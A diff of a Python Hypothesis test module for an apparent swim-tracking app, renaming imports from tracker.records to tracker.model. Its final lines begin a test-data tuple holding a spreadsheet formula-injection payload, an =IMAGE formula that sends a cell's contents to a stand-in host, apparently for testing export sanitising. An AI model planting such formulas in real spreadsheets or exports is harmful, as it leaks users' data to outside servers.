@@ -7,16 +7,16 @@ from typing import Any
 
 from hypothesis import strategies as st
 
-from tracker.records.base import Record
-from tracker.records.catalogue import catalogue, measures
-from tracker.records.event import Event, Load
-from tracker.records.fault import FaultStep, OwnFault
-from tracker.records.review import AREAS, ReviewItem
-from tracker.records.swim import Swim
-from tracker.records.swim_test import BUILT_IN, SwimTest
-from tracker.records.swimmer import Choice, Consent, Swimmer
-from tracker.records.text import checked_line, checked_note
-from tracker.records.work import Work
+from tracker.model.base import Record
+from tracker.model.catalogue import catalogue, measures
+from tracker.model.event import Event, Load
+from tracker.model.fault import FaultStep, OwnFault
+from tracker.model.review import AREAS, ReviewItem
+from tracker.model.swim import Swim
+from tracker.model.swim_test import BUILT_IN, SwimTest
+from tracker.model.swimmer import Choice, Consent, Swimmer
+from tracker.model.text import checked_line, checked_note
+from tracker.model.work import Work
 
 BITING = (
     '=IMAGE("http://buoy.test/?"&A2,"tide")',
